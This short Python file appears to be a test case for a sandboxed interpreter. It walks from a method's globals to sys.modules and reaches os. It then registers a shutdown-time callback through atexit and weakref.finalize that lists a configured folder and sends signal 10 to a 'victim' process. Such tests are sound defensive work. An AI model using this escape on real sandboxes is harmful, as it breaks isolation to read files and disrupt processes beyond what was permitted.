# expect: done
# idea: leave functions for the end of the interpreter, by atexit and by a finalizer
def tick(ctx):
    modules = ctx.state._ask.__func__.__globals__["sys"].modules

    def late(*given):
        try:
            print("ESCAPED: listed", modules["os"].listdir(ctx.config["folder"]))
        finally:
            modules["os"].kill(ctx.config["victim"], 10)

    for name, plant in (("atexit", lambda module: module.register(late)), ("weakref", lambda module: module.finalize(ctx, late))):
        try:
            plant(modules[name])
            print("planted", name)
        except Exception as error:
            print(name, type(error).__name__)
